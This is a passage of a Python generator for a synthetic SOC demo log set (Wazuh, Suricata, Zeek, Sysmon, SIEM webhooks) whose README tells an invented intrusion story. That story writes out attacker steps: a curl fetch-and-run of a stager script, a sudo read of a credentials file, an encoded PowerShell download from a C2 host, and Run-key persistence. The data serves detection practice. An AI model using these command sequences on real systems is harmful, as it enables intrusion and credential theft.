    "5503": (5, "PAM: User login failed.", ["T1110.001"], "pam,syslog,", "authentication_failed,pci_dss_10.2.4,pci_dss_10.2.5,gpg13_7.8,gdpr_IV_35.7.d,gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", None),
    "100210": (10, "File added to /tmp: possible ingress tool transfer.", ["T1105"], "local,syscheck,", "syscheck_entry_added,syscheck_file,pci_dss_11.5,gpg13_4.11,gdpr_II_5.1.f,hipaa_164.312.c.1,hipaa_164.312.c.2,nist_800_53_SI.7,tsc_PI1.4,tsc_PI1.5,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", None),
}

# ATT&CK names (from the ATT&CK enterprise matrix) for the ids above.
ATTACK = {
    "T1110": ("Brute Force", ["Credential Access"]),
    "T1110.001": ("Password Guessing", ["Credential Access"]),
    "T1021": ("Remote Services", ["Lateral Movement"]),
    "T1021.004": ("SSH", ["Lateral Movement"]),
    "T1078": ("Valid Accounts", ["Defense Evasion", "Persistence", "Privilege Escalation", "Initial Access"]),
    "T1053.003": ("Cron", ["Execution", "Persistence", "Privilege Escalation"]),
    "T1136": ("Create Account", ["Persistence"]),
    "T1548.003": ("Sudo and Sudo Caching", ["Privilege Escalation", "Defense Evasion"]),
    "T1105": ("Ingress Tool Transfer", ["Command and Control"]),
}

AGENTS = {"bastion-01": ("003", BASTION), "web-01": ("004", WEB), "db-01": ("005", DB)}
COMPLIANCE = ["gdpr", "gpg13", "hipaa", "nist_800_53", "pci_dss", "tsc"]


def rule_obj(rid, firedtimes):
    level, desc, mitre, base, groups, freq = WAZUH_RULES[rid]
    r = {"level": level, "description": desc, "id": rid}
    if mitre:
        tactics = []
        for m in mitre:
            for tac in ATTACK[m][1]:
                if tac not in tactics:
                    tactics.append(tac)
        r["mitre"] = {"id": mitre, "tactic": tactics, "technique": [ATTACK[m][0] for m in mitre]}
    if freq:
        r["frequency"] = freq
    r["firedtimes"] = firedtimes
    r["mail"] = False
    plain = [g for g in base.split(",") if g]
    comp = {c: [] for c in COMPLIANCE}
    for g in groups.split(","):
        if not g:
            continue
        for c in COMPLIANCE:
            if g.startswith(c + "_"):
                comp[c].append(g[len(c) + 1:])
                break
        else:
            plain.append(g)
    r["groups"] = plain
    for c in COMPLIANCE:
        if comp[c]:
            r[c] = comp[c]
    return r


def write_wazuh(auth_lines_by_key):
    """Turns the collected events into Wazuh alerts: every decoded line that reaches a rule of
    level >= 3, except the single brute-force attempts (5710/5760 feed the 5712/5763
    frequency rules, which are what the manager's alert log keeps here)."""
    WAZUH_EVENTS.sort(key=lambda e: e[0])
    out = []
    fired = {}
    offset = [4_187_233]
    window = {"5712": [], "5763": []}
    last = {"5712": -10 ** 18, "5763": -10 ** 18}
    feeds = {"5710": "5712", "5760": "5763"}

    def emit(us, rid, host, full, prev=None, data=None, decoder=None, predecoder=None,
             location="/var/log/auth.log", extra_top=None):
        fired[rid] = fired.get(rid, 0) + 1
        t = us + sec(R.uniform(0.05, 0.9))
        aid, aip = AGENTS[host]
        a = {"timestamp": ts_wazuh(t), "rule": rule_obj(rid, fired[rid]),
             "agent": {"id": aid, "name": host, "ip": aip}, "manager": {"name": "wazuh-mgr-01"},
             "id": "%d.%d" % (t // 1_000_000, offset[0])}
        if prev:
            a["previous_output"] = "\n".join(prev)
        if extra_top:
            a.update(extra_top)
        a["full_log"] = full
        if predecoder:
            a["predecoder"] = predecoder
        if decoder:
            a["decoder"] = decoder
        if data:
            a["data"] = data
        a["location"] = location
        offset[0] += len(dumps(a)) + 1
        out.append((t, a))

    for us, rid, host, line, extra in WAZUH_EVENTS:
        if rid == "100210":
            sc = extra["syscheck"]
            hs = sc["hashes"]
            full = "File '%s' added\nMode: realtime\n" % sc["path"]
            syscheck = {"path": sc["path"], "mode": "realtime", "size_after": str(sc["size"]),
                        "perm_after": sc["perm"], "uid_after": sc["uid"], "gid_after": sc["gid"],
                        "md5_after": hs["md5"], "sha1_after": hs["sha1"], "sha256_after": hs["sha256"],
                        "uname_after": "root", "gname_after": "root",
                        "mtime_after": utc(sc["mtime"]).strftime("%Y-%m-%dT%H:%M:%S"),
                        "inode_after": sc["inode"], "event": "added"}
            emit(us, rid, host, full, decoder={"name": "syscheck_new_entry"}, location="syscheck",
                 extra_top={"syscheck": syscheck})
            continue
        prog, pk, msg = line
        pid = RESOLVED_PIDS.get((host, pk))
        if prog == "crontab":
            pid = RESOLVED_PIDS[(host, STORY["useradd_key"])] + 6
        full = syslog_line(us, host, prog, msg, pid)
        pre = {"program_name": prog, "timestamp": ts_syslog(us), "hostname": host}
        location = extra.pop("location", "/var/log/auth.log")
        dec_name = extra.pop("decoder", None)
        data = {k: v for k, v in extra.items()}
        if prog == "sshd":
            decoder = {"parent": "sshd", "name": "sshd"}
        elif prog == "sudo":
            decoder = {"parent": "sudo", "name": dec_name or "sudo"}
        elif prog == "crontab":
            decoder = {"name": "cron"}
            data = {"srcuser": "root", "dstuser": "root"}
        else:
            decoder = {"name": prog}
        if rid in feeds:
            comp = feeds[rid]
            w = [e for e in window[comp] if us - e[0] <= sec(120)]
            w.append((us, full))
            window[comp] = w
            if len(w) >= 8 and us - last[comp] >= sec(60):
                prev = [e[1] for e in reversed(w[-8:-1])]
                emit(us, comp, host, full, prev=prev, data=data, decoder=decoder, predecoder=pre,
                     location=location)
                last[comp] = us
                window[comp] = []
            if host != "bastion-01" or not data.get("srcip") == ATTACKER:
                emit(us, rid, host, full, data=data, decoder=decoder, predecoder=pre,
                     location=location)
            continue
        emit(us, rid, host, full, data=data or None, decoder=decoder, predecoder=pre,
             location=location)
    out.sort(key=lambda e: e[0])
    return [dumps(a) for _, a in out]


def eve_base(t, s, etype, reverse=False):
    src, sport, dst, dport = s["src"], s["sport"], s["dst"], s["dport"]
    if reverse:
        src, sport, dst, dport = dst, dport, src, sport
    e = {"timestamp": ts_eve(t), "flow_id": s["flow_id"], "in_iface": "ens6",
         "event_type": etype, "src_ip": src, "src_port": sport, "dest_ip": dst,
         "dest_port": dport, "proto": s["proto"]}
    return e


def app_proto(s):
    return {"dns": "dns", "ssl": "tls", "http": "http", "ssh": "ssh"}.get(s["service"], "failed")


def dns_obj(q, response):
    o = {"version": 3, "type": "response" if response else "request", "tx_id": 0, "id": q["id"]}
    if not response:
        o.update({"flags": "0100", "rd": True, "opcode": 0, "rcode": "NOERROR",
                  "queries": [{"rrname": q["name"], "rrtype": q["qtype"]}]})
        return o
    o.update({"flags": "8183" if q["rcode"] == "NXDOMAIN" else "8180", "qr": True, "rd": True,
              "ra": True, "opcode": 0, "rcode": q["rcode"],
              "queries": [{"rrname": q["name"], "rrtype": q["qtype"]}]})
    if q["answers"] and q["qtype"] == "SRV":
        o["answers"] = [{"rrname": q["name"], "rrtype": "SRV", "ttl": q["ttl"],
                         "srv": {"target": a, "priority": 0, "weight": 100, "port": 389}}
                        for a in q["answers"]]
    elif q["answers"]:
        o["answers"] = [{"rrname": q["name"], "rrtype": q["qtype"], "ttl": q["ttl"], "rdata": a}
                        for a in q["answers"]]
        o["grouped"] = {q["qtype"]: list(q["answers"])}
    return o


def write_suricata():
    ev = []
    for s in SESSIONS:
        if not s["suricata"]:
            continue
        t0, app = s["t"], s["app"] or {}
        ap = app_proto(s)
        if "dns" in app:
            q = app["dns"]
            e = eve_base(t0, s, "dns")
            e["dns"] = dns_obj(q, False)
            ev.append((t0, e))
            e = eve_base(t0 + q["rtt"], s, "dns", reverse=True)
            e["dns"] = dns_obj(q, True)
            ev.append((t0 + q["rtt"], e))
        if "tls" in app:
            tt = t0 + sec(0.004) + min(s["dur"] // 4, sec(0.05))
            e = eve_base(tt, s, "tls")
            e["tls"] = app["tls"]
            ev.append((tt, e))
        if "ssh" in app:
            tt = t0 + sec(0.003)
            e = eve_base(tt, s, "ssh")
            e["ssh"] = {"client": {"proto_version": "2.0", "software_version": app["ssh"]["client"]},
                        "server": {"proto_version": "2.0",
                                   "software_version": "OpenSSH_9.2p1 Debian-2+deb12u3"}}
            ev.append((tt, e))
        if "http" in app:
            th = t0 + min(s["dur"], sec(0.9)) - sec(0.001)
            e = eve_base(th, s, "http")
            e["tx_id"] = 0
            e["http"] = app["http"]
            ev.append((th, e))
            fi = app.get("fileinfo")
            if fi:
                e = eve_base(th, s, "fileinfo")
                e["http"] = app["http"]
                e["app_proto"] = "http"
                f = {"filename": fi["filename"], "gaps": False, "state": "CLOSED",
                     "magic": fi["magic"], "md5": fi["md5"], "sha1": fi["sha1"],
                     "sha256": fi["sha256"], "stored": False, "size": fi["size"], "tx_id": 0}
                e["fileinfo"] = f
                ev.append((th, e))
        for sig, off in s["alerts"]:
            S = SIGS[sig]
            ta = t0 + sec(off)
            rev = S["tpl"] == "to_client"
            e = eve_base(ta, s, "alert", reverse=rev)
            if "dns" not in app:
                e["tx_id"] = 0
            e["alert"] = {"action": "allowed", "gid": 1, "signature_id": S["sid"], "rev": S["rev"],
                          "signature": S["sig"], "category": S["cat"], "severity": S["sev"],
                          "metadata": dict(created_at=["2026_10_01"], deployment=["Perimeter"],
                                           **S["meta"])}
            for k in ("http", "tls"):
                if k in app:
                    e[k] = app[k]
            if "dns" in app:
                e["dns"] = dns_obj(app["dns"], False)
            e["app_proto"] = ap
            e["direction"] = S["tpl"]
            e["flow"] = {"pkts_toserver": max(1, s["opk"] // 2), "pkts_toclient": max(1, s["rpk"] // 2),
                         "bytes_toserver": max(60, s["ob"] // 2), "bytes_toclient": max(60, s["rb"] // 2),
                         "start": ts_eve(t0), "src_ip": s["src"], "dest_ip": s["dst"],
                         "src_port": s["sport"], "dest_port": s["dport"]}
            ev.append((ta, e))
        # flow record, logged when the flow ends
        te = t0 + s["dur"]
        e = eve_base(te, s, "flow")
        e["app_proto"] = ap
        hdr = 66 if s["proto"] == "TCP" else 42
        e["flow"] = {"pkts_toserver": s["opk"], "pkts_toclient": s["rpk"],
                     "bytes_toserver": s["ob"] + s["opk"] * hdr,
                     "bytes_toclient": s["rb"] + s["rpk"] * hdr,
                     "start": ts_eve(t0), "end": ts_eve(te), "age": (te - t0) // 1_000_000,
                     "state": "closed" if s["proto"] == "TCP" else "established",
                     "reason": "timeout", "alerted": bool(s["alerts"])}
        if s["proto"] == "TCP":
            e["tcp"] = {"tcp_flags": "1b", "tcp_flags_ts": "1b", "tcp_flags_tc": "1b",
                        "syn": True, "fin": True, "psh": True, "ack": True, "state": "closed"}
        ev.append((te, e))
    ev.sort(key=lambda x: x[0])
    return [dumps(e) for _, e in ev]


ZEEK_CONN_FIELDS = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto",
                    "service", "duration", "orig_bytes", "resp_bytes", "conn_state", "local_orig",
                    "local_resp", "missed_bytes", "history", "orig_pkts", "orig_ip_bytes",
                    "resp_pkts", "resp_ip_bytes", "tunnel_parents"]
ZEEK_CONN_TYPES = ["time", "string", "addr", "port", "addr", "port", "enum", "string", "interval",
                   "count", "count", "string", "bool", "bool", "count", "string", "count", "count",
                   "count", "count", "set[string]"]
ZEEK_DNS_FIELDS = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto",
                   "trans_id", "rtt", "query", "qclass", "qclass_name", "qtype", "qtype_name",
                   "rcode", "rcode_name", "AA", "TC", "RD", "RA", "Z", "answers", "TTLs", "rejected"]
ZEEK_DNS_TYPES = ["time", "string", "addr", "port", "addr", "port", "enum", "count", "interval",
                  "string", "count", "string", "count", "string", "count", "string", "bool", "bool",
                  "bool", "bool", "count", "vector[string]", "vector[interval]", "bool"]


def zeek_header(path, fields, types):
    return ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-",
            "#path\t" + path, "#open\t2026-11-20-08-00-00", "#fields\t" + "\t".join(fields),
            "#types\t" + "\t".join(types)]


def write_zeek():
    conn, dnsr = [], []
    for s in SESSIONS:
        tcp = s["proto"] == "TCP"
        hdr = 52 if tcp else 28
        row = [ts_zeek(s["t"]), s["uid"], s["src"], str(s["sport"]), s["dst"], str(s["dport"]),
               "tcp" if tcp else "udp", s["service"] if s["service"] else "-",
               "%.6f" % (s["dur"] / 1e6), str(s["ob"]), str(s["rb"]), s["state"],
               "T" if is_inside(s["src"]) else "F", "T" if is_inside(s["dst"]) else "F", "0",
               s["history"], str(s["opk"]), str(s["ob"] + s["opk"] * hdr), str(s["rpk"]),
               str(s["rb"] + s["rpk"] * hdr), "-"]
        conn.append((s["t"], "\t".join(row)))
        app = s["app"] or {}
        if "dns" in app:
            q = app["dns"]
            qt = {"A": 1, "AAAA": 28, "SRV": 33, "PTR": 12}[q["qtype"]]
            rc = {"NOERROR": 0, "NXDOMAIN": 3}[q["rcode"]]
            row = [ts_zeek(s["t"]), s["uid"], s["src"], str(s["sport"]), s["dst"], "53", "udp",
                   str(q["id"]), "%.6f" % (q["rtt"] / 1e6), q["name"], "1", "C_INTERNET", str(qt),
                   q["qtype"], str(rc), q["rcode"], "T" if q["name"].endswith(DOMAIN) else "F",
                   "F", "T", "T", "0", ",".join(q["answers"]) if q["answers"] else "-",
                   ",".join("%.6f" % q["ttl"] for _ in q["answers"]) if q["answers"] else "-", "F"]
            dnsr.append((s["t"], "\t".join(row)))
    conn.sort(key=lambda x: x[0])
    dnsr.sort(key=lambda x: x[0])
    close = "#close\t2026-11-20-18-00-00"
    c = zeek_header("conn", ZEEK_CONN_FIELDS, ZEEK_CONN_TYPES) + [r for _, r in conn] + [close]
    d = zeek_header("dns", ZEEK_DNS_FIELDS, ZEEK_DNS_TYPES) + [r for _, r in dnsr] + [close]
    return c, d, len(conn), len(dnsr)


def write_sysmon():
    SYSMON.sort(key=lambda x: x[0])
    # EventRecordID follows time order.
    rec = 48211
    for _, ev in SYSMON:
        rec += 1 + (ev["Event"]["System"]["EventRecordID"] % 5)
        ev["Event"]["System"]["EventRecordID"] = rec
    return [dumps(ev) for _, ev in SYSMON]


def splunk_payload():
    t = at(9, 30, 0) + sec(2.731)
    search_time = (t // 1_000_000)
    sid = "scheduler__soc_svc__search__RMD5c81e2a0f6b3d7a91_at_%d_4417" % (at(9, 30) // 1_000_000)
    users = sorted(BF_STATS["by_user"])
    result = {
        "_time": str(STORY["deploy_login"] // 1_000_000),
        "host": "bastion-01",
        "src_ip": ATTACKER,
        "user": "deploy",
        "action": "success",
        "failed_attempts": str(BF_STATS["failed_passwords"]),
        "distinct_users": str(len(users)),
        "users_tried": " ".join(users),
        "first_failure": utc(BF_START).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "success_time": utc(STORY["deploy_login"]).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "sourcetype": "linux_secure",
        "index": "os_linux",
        "count": str(BF_STATS["failed_passwords"] + 1),
    }
    p = {"result": result, "sid": sid,
         "results_link": "https://splunk.example.com:8000/app/search/@go?sid=" + sid,
         "search_name": "SOC - SSH brute force followed by successful login",
         "owner": "soc_svc", "app": "search"}
    return [dumps(p)], search_time


def kibana_payload():
    t = STORY["ps_enc"]
    p = PROCS["ps"]
    par = PROCS["wsmprov"]
    ps = p[0]
    hit_ts = ts_ecs(t)
    src = {
        "@timestamp": hit_ts,
        "agent": {"type": "winlogbeat", "version": "8.17.4", "name": "ws-fin-07"},
        "ecs": {"version": "8.0.0"},
        "event": {"code": "1", "kind": "event", "module": "sysmon", "provider": "Microsoft-Windows-Sysmon",
                  "category": ["process"], "type": ["start", "process_start"],
                  "action": "Process Create (rule: ProcessCreate)", "created": ts_ecs(t + sec(1.2))},
        "host": {"name": "ws-fin-07." + DOMAIN, "hostname": "ws-fin-07",
                 "ip": [WS_FIN_07], "os": {"family": "windows", "platform": "windows",
                                           "name": "Windows 10 Enterprise", "version": "10.0"}},
        "process": {"entity_id": "{%s}" % p[3], "pid": p[2], "executable": ps,
                    "name": "powershell.exe", "command_line": p[1],
                    "args": [ps, "-nop", "-w", "hidden", "-enc", PS_ENC],
                    "working_directory": "C:\\Users\\svc_backup\\Documents\\",
                    "pe": {"original_file_name": "PowerShell.EXE", "description": "Windows PowerShell"},
                    "parent": {"entity_id": "{%s}" % par[3], "pid": par[2], "executable": par[0],
                               "name": "wsmprovhost.exe", "command_line": par[1]}},
        "user": {"name": "svc_backup", "domain": NETBIOS},
        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
                   "computer_name": "ws-fin-07." + DOMAIN, "provider_name": "Microsoft-Windows-Sysmon",
                   "record_id": str([ev for _, ev in SYSMON
                                     if ev["Event"]["EventData"].get("ProcessGuid") == p[3]
                                     and ev["Event"]["System"]["EventID"] == 1][0]
                                    ["Event"]["System"]["EventRecordID"])},
    }
    when = t + sec(47.0)
    payload = {
        "rule": {"id": "5d1f3e80-9a7c-11f1-b2c4-3b6e1d0a8f21",
                 "name": "Windows - Encoded PowerShell spawned by WinRM host process",
                 "type": ".es-query", "spaceId": "default",
                 "tags": ["soc", "windows", "attack.t1059.001", "attack.t1021.006"],
                 "url": "https://kibana.example.com:5601/app/management/insightsAndAlerting/triggersActionsUi/rule/5d1f3e80-9a7c-11f1-b2c4-3b6e1d0a8f21"},
        "alert": {"id": "query matched", "uuid": "8b0c6c2e-41d7-4f5e-9a3b-7f2d9e6c1a04",
                  "actionGroup": "query matched", "actionGroupName": "Query matched"},
        "context": {
            "title": "rule 'Windows - Encoded PowerShell spawned by WinRM host process' matched query",
            "message": ("rule 'Windows - Encoded PowerShell spawned by WinRM host process' is active:\n\n"
                        "- Value: 1\n- Conditions Met: Number of matching documents is greater than or equal to 1 over 5m\n"
                        "- Timestamp: %s") % ts_ecs(when),
            "conditions": "Number of matching documents is greater than or equal to 1",
            "value": 1,
            "date": ts_ecs(when),
            "link": "https://kibana.example.com:5601/app/discover#/viewAlert/5d1f3e80-9a7c-11f1-b2c4-3b6e1d0a8f21",
            "hits": [{"_index": ".ds-winlogbeat-8.17.4-2026.11.20-000001",
                      "_id": hashlib.sha1(p[3].encode()).hexdigest()[:20],
                      "_score": 1, "_source": src}],
        },
        "date": ts_ecs(when),
    }
    return [dumps(payload)], when


# --------------------------------------------------------------------------------------------

def build():
    story()
    windows()
    routine()
    files = {}
    auth_lines = write_auth()
    files["auth.log"] = auth_lines
    files["wazuh-alerts.json"] = write_wazuh(None)
    files["suricata-eve.json"] = write_suricata()
    files["sysmon-ws-fin-07.jsonl"] = write_sysmon()
    conn, dns, nconn, ndns = write_zeek()
    files["zeek/conn.log"] = conn
    files["zeek/dns.log"] = dns
    files["webhooks/splunk.json"], splunk_t = splunk_payload()
    files["webhooks/kibana.json"], kibana_t = kibana_payload()
    counts = {"zeek/conn.log": nconn, "zeek/dns.log": ndns}
    files["README.md"] = readme(files, counts, splunk_t, kibana_t).rstrip("\n").split("\n")
    return files


def count_records(name, lines, counts):
    if name in counts:
        return counts[name]
    return len([l for l in lines if l])


def readme(files, zcounts, splunk_t, kibana_t):
    eve = [json.loads(l) for l in files["suricata-eve.json"]]
    by_type = {}
    for e in eve:
        by_type[e["event_type"]] = by_type.get(e["event_type"], 0) + 1
    sig_counts = {}
    for e in eve:
        if e["event_type"] == "alert":
            k = (e["alert"]["signature_id"], e["alert"]["signature"], e["alert"]["severity"])
            sig_counts[k] = sig_counts.get(k, 0) + 1
    wz = [json.loads(l) for l in files["wazuh-alerts.json"]]
    wz_rules = {}
    for a in wz:
        k = (a["rule"]["id"], a["rule"]["level"], a["rule"]["description"])
        wz_rules[k] = wz_rules.get(k, 0) + 1
    sm = [json.loads(l) for l in files["sysmon-ws-fin-07.jsonl"]]
    sm_ids = {}
    for e in sm:
        i = e["Event"]["System"]["EventID"]
        sm_ids[i] = sm_ids.get(i, 0) + 1
    hosts = {}
    for l in files["auth.log"]:
        h = l.split()[3]
        hosts[h] = hosts.get(h, 0) + 1
    n = {name: count_records(name, lines, zcounts) for name, lines in files.items()
         if name != "README.md"}
    size = sum(len(("\n".join(v) + "\n").encode()) for k, v in files.items() if k != "README.md")
    n_alerts = by_type.get("alert", 0)

    def hm(us):
        return utc(us).strftime("%H:%M:%S")

    L = []
    w = L.append
    w("# tocsin demo data set")
    w("")
    w("Synthetic logs of one small, made-up intrusion, with routine activity around it, written for")
    w("tocsin as its first-run demo (`tocsin ingest data/demo`). Nothing here comes from a real")
    w("network or from a third-party data set: every record is produced by `generate.py` in this")
    w("folder (Python standard library only, seeded; running it again rewrites the files byte for")
    w("byte, `python3 data/demo/generate.py --check` verifies that). Internet addresses are RFC 5737")
    w("documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), the inside network is")
    w("10.20.0.0/16, domains are example.com / example.net / .test, people and hosts are invented.")
    w("File hashes are hashes of placeholder text, not of any real file. Signature names starting")
    w("with `TOCSIN DEMO` and sids 9000000+ are invented; Wazuh rule ids, levels and descriptions")
    w("are those of the public Wazuh ruleset (100210 is a local rule); ATT&CK ids are real.")
    w("")
    w("License: same as tocsin, MIT OR Apache-2.0.")
    w("")
    w("All times are UTC on 2026-11-20, between 08:00 and 18:00. `auth.log` is RFC 3164 syslog and")
    w("carries no year or zone: the lines are UTC and the year is 2026 (force it with tocsin's year")
    w("setting when the file's modification time would resolve it to another year).")
    w("")
    w("## The story")
    w("")
    w("Network: `bastion-01` (%s) is the SSH jump host reachable from the internet; `web-01`" % BASTION)
    w("(%s) and `db-01` (%s) sit behind it; `ci-01` (%s) runs deployments; `ws-fin-07`" % (WEB, DB, CI))
    w("(%s) is the workstation of mreyes in finance; `dc-01` (%s) is the domain controller" % (WS_FIN_07, DC))
    w("of `%s`; `ns-01` (%s) resolves for the Linux servers. Suricata (`sensor-core-01`," % (DOMAIN, RESOLVER))
    w("interface ens6) watches traffic crossing the internet edge and all DNS; Zeek watches the")
    w("same span and also logs internal (east-west) connections. Wazuh agents run on the three")
    w("Linux servers; Sysmon runs on ws-fin-07.")
    w("")
    w("1. **%s-%s SSH brute force.** %s tries passwords against bastion-01 for" % (
        hm(BF_START)[:5], hm(STORY["deploy_login"])[:5], ATTACKER))
    w("   root, admin, oracle, test and deploy: %d connections, %d failed passwords\n   (%s)." % (
        BF_STATS["connections"] + 1, BF_STATS["failed_passwords"],
        ", ".join("%s %d" % (u, c) for u, c in sorted(BF_STATS["by_user"].items()))))
    w("   At %s `Accepted password for deploy` (the CI account, which normally only logs in" % hm(STORY["deploy_login"]))
    w("   with a key from ci-01). Wazuh raises 5712/5763 (T1110), Suricata sid 9000101.")
    w("2. **%s sudo and a dropper.** deploy has passwordless sudo: `sudo -l` (Wazuh 5403, first" % hm(STORY["curl"])[:5])
    w("   sudo by this user), then `curl -fsSL http://%s/x.sh -o /tmp/.x.sh` (Suricata http +" % STAGER)
    w("   fileinfo with the sha256")
    w("   `%s`," % XSH_HASH["sha256"])
    w("   curl-to-IP and script-download alerts; Wazuh syscheck on /tmp, local rule 100210, T1105)")
    w("   and `sudo /bin/bash /tmp/.x.sh` at %s. The script fetches `/k/kworkerd` (ELF, sid" % hm(STORY["xsh"]))
    w("   9000203),")
    w("   adds user `sysupd` (uid 1105) to group sudo (Wazuh 5901/5902, T1136), replaces root's")
    w("   crontab (Wazuh 2833, T1053.003; the root CRON sessions every 5 minutes in auth.log from")
    w("   09:25 are it) and starts the implant.")
    w("3. **%s onwards, C2.** The implant on bastion-01 beacons over TLS to `%s`" % (hm(STORY["beacon_bastion"])[:5], C2_NAME))
    w("   (%s, self-signed certificate, same JA4 each time): %d beacons, the first 40" % (C2_IP, STORY["beacons_bastion"]))
    w("   about every 60 s with a few seconds of jitter, then about every 30 minutes. Suricata")
    w("   sid 9000302")
    w("   (limited to one alert per source per hour) and sid 9000301 on the DNS query.")
    w("4. **%s credentials.** `sudo /usr/bin/cat /etc/backup/credentials.conf` (the password of" % hm(STORY["creds"])[:5])
    w("   the Windows backup account `%s\\svc_backup`); deploy logs out at 09:33." % NETBIOS)
    w("5. **%s the new account.** `Accepted password for sysupd from %s`; at %s" % (
        hm(STORY["sysupd_login"])[:5], ATTACKER, hm(STORY["winrm"])))
    w("   bastion-01 opens WinRM (tcp/5985, Zeek conn only) to ws-fin-07 as svc_backup.")
    w("6. **%s ws-fin-07.** Sysmon: `wsmprovhost.exe` starts `powershell.exe -nop -w hidden -enc ...`" % hm(STORY["ps_enc"])[:5])
    w("   (T1059.001; decodes to a WebClient download of `https://%s/assets/v2/upd.dll`)," % C2_NAME)
    w("   DNS query and connection to %s:443, `upd4821.dll` written to the user's Temp folder," % C2_IP)
    w("   `rundll32.exe ...\\upd4821.dll,StartW` (T1218.011) which beacons to the same C2, then")
    w("   `whoami /all`, `ipconfig /all`, `net group \"domain admins\" /domain`, `nltest /dclist:`")
    w("   (discovery: T1033, T1016, T1069.002, T1018) and a Run key `OneDriveUpdater` pointing at")
    w("   the DLL via `reg add` (T1547.001). Kibana's rule on encoded PowerShell from WinRM fires.")
    w("   The rundll32 implant beacons %d times (about every 60 s for 20 minutes, then about every" % STORY["beacons_ws"])
    w("   30 minutes); Sysmon logs each connection (EID 3) and Suricata/Zeek see the same ones.")
    w("")
    w("Around it (so triage is real work): admins' publickey SSH logins from their workstations")
    w("through bastion-01, `sudo apt update/upgrade`, a mistyped sudo password, ansible runs from")
    w("ci-01, cron on every server, CI pushes as `deploy` with a key, internet background noise on")
    w("sshd, Windows logon traffic to the DC, web/mail/SaaS TLS from the workstations, benign")
    w("Suricata alerts (APT user-agent policy, an external-IP lookup by ci-01's monitoring, an")
    w("unrelated web scanner probing web-01 for `.env`/`.git`), mreyes's Outlook, Excel and OneDrive")
    w("(its Run key write looks like persistence and is not).")
    w("")
    w("Pivots that join the sources: %s (auth.log, Suricata, Zeek, Wazuh, Splunk); %s /" % (ATTACKER, C2_IP))
    w("`%s` (Suricata, Zeek, Sysmon); bastion-01 / %s; ws-fin-07 / %s; the x.sh" % (C2_NAME, BASTION, WS_FIN_07))
    w("sha256 (Suricata fileinfo, Wazuh syscheck); the 5-tuple and times of each connection agree")
    w("between Suricata flow records, Zeek conn.log and (for ws-fin-07) Sysmon EID 3.")
    w("")
    w("## Files")
    w("")
    w("| file | format | records |")
    w("|---|---|---|")
    desc = {
        "auth.log": "RFC 3164 syslog (Debian auth.log of bastion-01, web-01, db-01)",
        "suricata-eve.json": "Suricata 8 EVE JSON, one event per line (DNS logging version 3)",
        "wazuh-alerts.json": "Wazuh manager alerts.json, one alert per line",
        "sysmon-ws-fin-07.jsonl": "Sysmon events as evtx-style JSON (`{\"Event\": {\"System\", \"EventData\"}}`), one per line",
        "zeek/conn.log": "Zeek TSV conn.log (header lines not counted)",
        "zeek/dns.log": "Zeek TSV dns.log (header lines not counted)",
        "webhooks/splunk.json": "Splunk alert webhook payload, one per line",
        "webhooks/kibana.json": "Kibana (Elasticsearch query rule) webhook payload, one per line",
    }
    for name in ["auth.log", "suricata-eve.json", "wazuh-alerts.json", "sysmon-ws-fin-07.jsonl",
                 "zeek/conn.log", "zeek/dns.log", "webhooks/splunk.json", "webhooks/kibana.json"]:
        w("| `%s` | %s | %d |" % (name, desc[name], n[name]))
    w("")
    w("Total %d records, %d bytes (README and generate.py aside)." % (sum(n.values()), size))
    w("")
    w("auth.log lines per host: %s." % ", ".join("%s %d" % (h, c) for h, c in sorted(hosts.items())))
    w("")
    w("Suricata events per `event_type`: %s." % ", ".join("%s %d" % (k, by_type[k]) for k in sorted(by_type)))
    w("")
    w("Sysmon events per EventID: %s." % ", ".join("%d: %d" % (k, sm_ids[k]) for k in sorted(sm_ids)))
    w("")
    w("## Alerts per source")
    w("")
    w("| source | alert records |")
    w("|---|---|")
    w("| Suricata (`event_type` alert) | %d |" % n_alerts)
    w("| Wazuh | %d |" % len(wz))
    w("| Splunk webhook | %d |" % n["webhooks/splunk.json"])
    w("| Kibana webhook | %d |" % n["webhooks/kibana.json"])
    w("| total | %d |" % (n_alerts + len(wz) + n["webhooks/splunk.json"] + n["webhooks/kibana.json"]))
    w("")
    w("Sysmon, auth.log and Zeek carry events only (no alerts); they are what a hunt searches.")
    w("")
    w("Suricata alerts by signature:")
    w("")
    w("| sid | severity | signature | alerts |")
    w("|---|---|---|---|")
    for (sid, sig, sev), c in sorted(sig_counts.items()):
        w("| %d | %d | %s | %d |" % (sid, sev, sig, c))
    w("")
    w("Wazuh alerts by rule:")
    w("")
    w("| rule | level | description | alerts |")
    w("|---|---|---|---|")
    for (rid, lvl, d), c in sorted(wz_rules.items(), key=lambda x: int(x[0][0])):
        w("| %s | %d | %s | %d |" % (rid, lvl, d, c))
    w("")
    w("Webhooks: Splunk saved search \"SOC - SSH brute force followed by successful login\" (result")
    w("for %s -> deploy on bastion-01, %d failed attempts); Kibana rule \"Windows - Encoded" % (
        ATTACKER, BF_STATS["failed_passwords"]))
    w("PowerShell spawned by WinRM host process\" with one hit (the ECS document of the Sysmon")
    w("EID 1 for powershell.exe on ws-fin-07).")
    w("")
    w("## Sigma rules the Sysmon events are written to match (SigmaHQ titles)")
    w("")
    for t in ["Remote PowerShell Session Host Process (WinRM)",
              "Suspicious Processes Spawned by WinRM (powershell.exe under wsmprovhost.exe)",
              "Suspicious Execution of Powershell with Base64 (` -enc `)",
              "CobaltStrike Load by Rundll32 (`.dll` ... `,StartW`)",
              "Rundll32 Internet Connection (EID 3, rundll32 to %s)" % C2_IP,
              "Enumerate All Information With Whoami.EXE (`whoami /all`)",
              "Suspicious Network Command (`ipconfig /all`)",
              "Suspicious Group And Account Reconnaissance Activity Using Net.EXE",
              "Potential Recon Activity Via Nltest.EXE (`/dclist:`)",
              "Potential Persistence Attempt Via Run Keys Using Reg.EXE",
              "New RUN Key Pointing to Suspicious Folder (EID 13, `\\AppData\\Local\\Temp`)",
